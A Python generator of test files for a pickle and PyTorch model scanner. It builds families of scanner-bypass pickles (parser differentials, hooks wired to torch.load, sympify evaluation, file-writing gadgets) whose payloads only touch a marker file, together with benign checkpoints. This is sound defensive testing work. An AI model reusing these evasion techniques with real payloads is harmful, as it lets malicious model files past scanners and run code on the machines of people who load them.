"""Generated families of scanner bypasses (issue 9's classes), several variants each, plus benign look-alikes.

Usage::

    python tests/corpus/families.py DIR [--verify]

Each malicious variant's payload only creates ``<DIR>/PWNED_MARKER_<name>``; ``--verify`` loads every
variant the way its trigger says in a subprocess and checks the marker appears (never run it from a test
process that must stay clean: the test suite runs the pickle triggers in a subprocess of its own).

Classes (a family per class, named after it):

- ``differential``: bytes that some of CPython's unpicklers read and a token-by-token parser (pickletools)
  does not (INT/LONG in base 0, FLOAT that only the pure-Python unpickler accepts, STRING/BINSTRING with
  UTF-8 or Latin-1 bytes, a module name from a computed STRING) — the payload follows the odd opcode;
- ``computed``: allow-listed callables given computed or forwarded arguments (argument tuples built by a
  call, numpy's generator constructors forwarding to torch.load, backward hooks);
- ``redteam``: what the red-team pass got past the first version of the new scanner (a class built with
  ``type`` or an allow-listed container whose instance ``__setstate__``/``append`` is set to
  ``torch.load`` of bytes, nested bytes that only a Latin-1 decoding turns into a payload, a third-party
  library function that evaluates a string);
- ``gadget``: standard-library, torch- and numpy-internal callables that write files or run commands
  from modules no deny-list names (wave, sunau, py_compile, numpy.lib.format, torch.from_file), and
  Python 2 names that ``fix_imports`` maps to dangerous ones.
"""

from __future__ import annotations

import argparse
import pickle
import struct
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

MARKER = "PWNED_MARKER"
PROTO2, PROTO4 = b"\x80\x02", b"\x80\x04"
MARK, STOP, REDUCE, TUPLE, POP = b"(", b".", b"R", b"t", b"0"


def U(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def B(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def G(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(func: bytes, *args: bytes) -> bytes:
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def pk(body: bytes, proto: bytes = PROTO2) -> bytes:
    return proto + body + STOP


class Family:
    """Builds the files of every family into one directory."""

    def __init__(self, root: Path) -> None:
        self.root = root

    def marker(self, name: str) -> str:
        return str(self.root / f"{MARKER}_{Path(name).stem}")

    def touch_sh(self, name: str) -> bytes:
        return call(G("os", "system"), U(f"touch '{self.marker(name)}'"))

    def malicious(self) -> list[tuple[str, str, str, Callable[[str], bytes]]]:
        """(file, family, trigger, builder(name) -> bytes)."""
        sh = self.touch_sh
        m = self.marker
        torch_file = _torch_file_with  # bytes of a torch.save file whose pickle is the given bytes
        return [
            # -- parser differentials: the payload follows an opcode a token parser rejects -------------
            ("differential_int_hex.pkl", "differential", "pickle", lambda n: pk(b"I0x1f\n" + POP + sh(n))),
            ("differential_int_octal.pkl", "differential", "pickle", lambda n: pk(b"I0o17\n" + POP + sh(n))),
            ("differential_long_hex.pkl", "differential", "pickle", lambda n: pk(b"L0x10L\n" + POP + sh(n))),
            ("differential_int_underscore.pkl", "differential", "pickle", lambda n: pk(b"I1_000\n" + POP + sh(n))),
            ("differential_float_underscore.pkl", "differential", "pickle-py", lambda n: pk(b"F1_0\n" + POP + sh(n))),
            ("differential_string_utf8.pkl", "differential", "pickle-utf8",
             lambda n: pk(b"S'\xc3\xa9t\xc3\xa9'\n" + POP + sh(n))),
            ("differential_binstring_latin1.pkl", "differential", "pickle-latin1",
             lambda n: pk(b"U\x02\xff\xfe" + POP + sh(n))),
            ("differential_module_from_binstring.pkl", "differential", "pickle-utf8",
             lambda n: pk(b"U\x02os" + b"U\x06system" + b"\x93" + MARK + U(f"touch '{m(n)}'") + TUPLE + REDUCE, PROTO4)),
            ("differential_unicode_escape_name.pkl", "differential", "pickle",
             lambda n: pk(b"Vo\\u0073\n" + b"Vsystem\n" + b"\x93" + MARK + U(f"touch '{m(n)}'") + TUPLE + REDUCE, PROTO4)),
            # -- computed / forwarded arguments to allow-listed callables --------------------------------
            ("computed_argument_tuple.pkl", "computed", "pickle",
             lambda n: pk(G("numpy.random._pickle", "__randomstate_ctor")
                          + call(G("builtins", "tuple"), b"]" + MARK + B(torch_file(sh(n))) + G("torch.storage", "_load_from_bytes") + b"e")
                          + REDUCE)),
            ("computed_generator_ctor.pkl", "computed", "pickle",
             lambda n: pk(call(G("numpy.random._pickle", "__generator_ctor"), B(torch_file(sh(n))),
                               G("torch.storage", "_load_from_bytes")))),
            ("computed_rebuild_from_type_load.pkl", "computed", "pickle",
             lambda n: pk(call(G("torch._tensor", "_rebuild_from_type_v2"), G("torch.storage", "_load_from_bytes"),
                               G("torch", "Tensor"), MARK + B(torch_file(sh(n))) + TUPLE, b"}"))),
            ("computed_hooks_forwarder.pkl", "computed", "pickle",
             lambda n: pk(call(G("numpy.random._pickle", "__randomstate_ctor"), U(f"touch '{m(n)}'"), G("os", "system")))),
            # -- gadgets of the standard library / torch / numpy that no deny-list names ----------------
            ("gadget_wave_open.pkl", "gadget", "pickle", lambda n: pk(call(G("wave", "open"), U(m(n)), U("wb")))),
            ("gadget_sunau_open.pkl", "gadget", "pickle", lambda n: pk(call(G("sunau", "open"), U(m(n)), U("w")))),
            ("gadget_py_compile.pkl", "gadget", "pickle",
             lambda n: pk(call(G("py_compile", "compile"), U(str(self.root / "helper_source.py")), U(m(n))))),
            ("gadget_numpy_open_memmap.pkl", "gadget", "pickle",
             lambda n: pk(call(G("numpy.lib.format", "open_memmap"), U(m(n)), U("w+"), U("<f4"), MARK + b"K\x01" + TUPLE))),
            ("gadget_torch_from_file.pkl", "gadget", "pickle",
             lambda n: pk(call(G("torch", "from_file"), U(m(n)), b"\x88", b"K\x04"))),
            ("gadget_py2_commands.pkl", "gadget", "pickle",
             lambda n: pk(call(G("commands", "getoutput"), U(f"touch '{m(n)}'")))),
            ("gadget_py2_urllib_urlretrieve.pkl", "gadget", "pickle",
             lambda n: pk(call(G("urllib", "urlretrieve"), U((self.root / "helper_source.py").as_uri()), U(m(n))))),
            # -- found by the red-team pass (each one a root-cause fix in the scanner) -------------------
            ("redteam_type_class_setstate.pkl", "redteam", "pickle",
             lambda n: pk(G("builtins", "type") + MARK + U("K") + b")" + b"}" + TUPLE + b"\x81"
                          + MARK + b"N" + b"}" + U("__setstate__") + G("torch.storage", "_load_from_bytes") + b"s" + TUPLE
                          + b"b" + B(torch_file(sh(n))) + b"b")),
            ("redteam_counter_append_hook.pkl", "redteam", "pickle",
             lambda n: pk(call(G("collections", "Counter")) + b"}" + U("append") + G("torch.storage", "_load_from_bytes")
                          + b"s" + b"b" + MARK + B(torch_file(sh(n))) + b"e")),
            ("redteam_counter_setstate_hook.pkl", "redteam", "pickle",
             lambda n: pk(call(G("collections", "Counter")) + b"}" + U("__setstate__")
                          + G("torch.storage", "_load_from_bytes") + b"s" + b"b" + B(torch_file(sh(n))) + b"b")),
            ("redteam_namespace_setstate_hook.pkl", "redteam", "pickle",
             lambda n: pk(G("argparse", "Namespace") + b")" + b"\x81" + b"}" + U("__setstate__")
                          + G("torch.storage", "_load_from_bytes") + b"s" + b"b" + B(torch_file(sh(n))) + b"b")),
            ("redteam_latin1_nested_load.pkl", "redteam", "pickle-latin1", lambda n: pk(_latin1_nested(m(n)))),
            ("redteam_library_function.pkl", "redteam", "pickle",
             lambda n: pk(call(G("sympy.core.sympify", "sympify"), U(f"__import__('os').system('touch {m(n)}')")))),
            ("redteam_computed_hook_name.pkl", "redteam", "pickle",
             lambda n: pk(G("torch.distributed.checkpoint.metadata", "BytesStorageMetadata") + b")\x81" + b"}"
                          + call(G("builtins", "str"), U("__setstate__")) + G("sympy", "sympify") + b"s" + b"b"
                          + U(f"(__import__('pathlib').Path('{m(n)}').touch() or 1)") + b"b")),
            ("redteam_library_class_evaluates.pkl", "redteam", "pickle",
             lambda n: pk(call(G("sympy", "Poly"), U(f"(__import__('pathlib').Path('{m(n)}').touch() or x)")))),
            ("redteam_identity_launders_class.pt", "redteam", "torch",
             lambda n: _legacy_patch_write(m(n))),
            ("gadget_torch_nn_function.pkl", "gadget", "pickle",
             lambda n: pk(call(G("torch.nn.modules.module", "register_module_forward_pre_hook"), G("os", "system")) + POP + sh(n))),
        ]

    def benign(self) -> list[tuple[str, str, Callable[[Path], None]]]:
        """(file, expected verdict, writer(path)) for real files the scanner must not call dangerous."""
        import numpy as np
        import torch

        def types_checkpoint(p: Path) -> None:
            torch.save({"epoch": 3, "types": [range, int, str, bytes, float, bool], "r": range(3), "c": 1 + 2j,
                        "s": {1, 2}, "b": b"x", "ba": bytearray(b"y"), "sl": slice(1, 2)}, p)

        def numpy_state(p: Path) -> None:
            torch.save({"np_generator": np.random.default_rng(0), "seed_seq": np.random.SeedSequence(1),
                        "legacy": np.random.RandomState(0), "mt_state": np.random.get_state(),
                        "array": np.arange(3), "scalar": np.float32(1.5), "obj": np.array(["a", {"k": 1}], dtype=object),
                        "record": np.zeros(2, dtype=[("a", ">f4"), ("b", "U3"), ("c", "i8", (2,))]),
                        "aligned": np.zeros(1, dtype=np.dtype([("a", "u1"), ("b", "f8")], align=True)),
                        "dates": np.array(["2020-01-01"], dtype="M8[D]"), "text": np.array([b"ab"]),
                        "pcg_state": np.random.default_rng(0).bit_generator.state}, p)

        def dcp_metadata(p: Path) -> None:
            import tempfile
            import warnings

            import torch.distributed.checkpoint as dcp

            with tempfile.TemporaryDirectory() as d, warnings.catch_warnings():
                warnings.simplefilter("ignore")
                dcp.save({"w": torch.ones(2), "step": 3, "name": "x"}, checkpoint_id=d, no_dist=True)
                p.write_bytes((Path(d) / ".metadata").read_bytes())

        def protocols(p: Path) -> None:
            data = {"a": [1, 2.5, None, True], "b": (b"x", "y"), "c": {"n": 10**30}}
            p.write_bytes(b"".join(pickle.dumps(data, protocol=k) for k in range(6)))

        def pickled_tensors(p: Path) -> None:
            p.write_bytes(pickle.dumps({"w": torch.ones(2, 3), "p": torch.nn.Parameter(torch.zeros(2))}, protocol=2))

        def scripted(p: Path) -> None:
            import warnings

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                torch.jit.script(_Scriptable()).save(str(p))

        def traced(p: Path) -> None:
            import warnings

            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                torch.jit.trace(torch.nn.Linear(2, 2), torch.ones(1, 2)).save(str(p))

        return [
            ("benign_scripted_list_dict_attrs.pt", "safe", scripted),
            ("benign_traced_inputs.pt", "safe", traced),
            ("benign_types_protocol2.pt", "safe", types_checkpoint),
            ("benign_numpy_rng_state.pt", "safe", numpy_state),
            ("benign_dcp.metadata", "safe", dcp_metadata),
            ("benign_all_protocols.pkl", "safe", protocols),
            ("benign_plain_pickled_tensors.pkl", "safe", pickled_tensors),
        ]


def _scriptable() -> type:
    import torch

    class Scriptable(torch.nn.Module):
        """TorchScript writes List/Dict attributes with torch.jit._pickle.restore_type_tag."""

        def __init__(self) -> None:
            super().__init__()
            self.fc = torch.nn.Linear(2, 2)
            self.table = {"a": torch.ones(1)}
            self.items = [torch.zeros(1), torch.ones(1)]
            self.names = ["x", "y"]

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return self.fc(x) + self.table["a"] + self.items[0]

    return Scriptable


def _Scriptable() -> object:  # a factory: torch is imported lazily
    return _scriptable()()


def _latin1_nested(marker: str) -> bytes:
    """torch.load of bytes that differ by decoding: valid UTF-8 (read as utf-8, the inner file's BINBYTES
    swallows the payload as data) whose raw Latin-1 reading ends the BINBYTES early, so the payload runs."""
    payload = b"cos\nsystem\n(V" + f"touch '{marker}'".encode() + b"\ntR."
    inner = b"B" + struct.pack("<I", 2 * len(payload)) + b"\xc3\xa9" * len(payload) + payload + b"."
    return call(G("torch.storage", "_load_from_bytes"),
                call(G("_codecs", "encode"), b"T" + struct.pack("<I", len(inner)) + inner, U("latin1")))


def _legacy_patch_write(marker: str) -> bytes:
    """A legacy torch file: an identity function on the allow-list (restore_type_tag) hands back a data class,
    BUILD then patches it (dump_patches=True, __name__=<path>), and a ('module', cls, file, source) persistent
    id makes torch's legacy loader write ``<__name__>.patch``: a file at a path the file chooses."""
    cls = G("torch.distributed.checkpoint.metadata", "BytesStorageMetadata")
    main = (PROTO2 + G("torch.jit._pickle", "restore_type_tag") + cls + U("x") + b"\x86R"
            + b"N}" + U("dump_patches") + b"\x88s" + U("__name__") + U(marker[: -len(".patch")] if marker.endswith(".patch") else marker)
            + b"s\x86b0" + MARK + U("module") + cls + U("evil.py") + U("class X: pass") + b"tQ.")
    info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return (pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + pickle.dumps(1001, protocol=2)
            + pickle.dumps(info, protocol=2) + main + pickle.dumps([], protocol=2))


def _torch_file_with(pickle_bytes: bytes) -> bytes:
    """A torch.save zip whose data.pkl is ``pickle_bytes`` (for torch.load inside a pickle)."""
    import io
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", pk(pickle_bytes[2:-1] if pickle_bytes.startswith(PROTO2) else pickle_bytes))
        zf.writestr("archive/byteorder", b"little")
        zf.writestr("archive/version", b"3\n")
    return buf.getvalue()


def build(root: Path, *, benign: bool = True) -> list[dict[str, str]]:
    """Write every family into ``root``; returns manifest entries (file, kind, family, trigger, expected)."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "helper_source.py").write_text("x = 1\n")
    fam = Family(root)
    entries: list[dict[str, str]] = []
    for name, family, trigger, builder in fam.malicious():
        (root / name).write_bytes(builder(name))
        entries.append({"file": name, "kind": "malicious", "family": family, "trigger": trigger,
                        "expected": "dangerous", "marker": fam.marker(name)})
    if benign:
        for name, expected, writer in fam.benign():
            writer(root / name)
            entries.append({"file": name, "kind": "benign", "family": "false-alarm", "trigger": "", "expected": expected,
                            "marker": ""})
    return entries


TRIGGER_CODE = r"""
import io, pickle, sys
for arg in sys.argv[1:]:
    path, trigger = arg.rsplit("::", 1)
    try:
        with open(path, "rb") as f:
            if trigger == "pickle":
                pickle.load(f)
            elif trigger == "pickle-py":
                pickle._Unpickler(f).load()
            elif trigger == "pickle-utf8":
                pickle.load(f, encoding="utf-8")
            elif trigger == "pickle-latin1":
                pickle.load(f, encoding="latin1")
            elif trigger == "torch":
                import torch
                torch.load(f, weights_only=False)
    except Exception as exc:
        print(path, type(exc).__name__, exc, file=sys.stderr)
"""


def verify(root: Path, entries: list[dict[str, str]]) -> list[str]:
    """Run every malicious variant's trigger in one subprocess; returns the files whose payload did NOT run."""
    mal = [e for e in entries if e["kind"] == "malicious"]
    subprocess.run([sys.executable, "-c", TRIGGER_CODE, *(f"{root / e['file']}::{e['trigger']}" for e in mal)],
                   cwd=root, capture_output=True, timeout=300)
    ran = {e["file"] for e in mal if Path(e["marker"]).exists() or Path(e["marker"] + ".patch").exists()}
    return [e["file"] for e in mal if e["file"] not in ran]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("directory", type=Path)
    parser.add_argument("--verify", action="store_true")
    args = parser.parse_args(argv)
    entries = build(args.directory)
    print(f"wrote {len(entries)} files to {args.directory}")
    if args.verify:
        missing = verify(args.directory, entries)
        print("payloads that did not run:", missing or "none")
        return 1 if missing else 0
    return 0


if __name__ == "__main__":
    sys.exit(main())
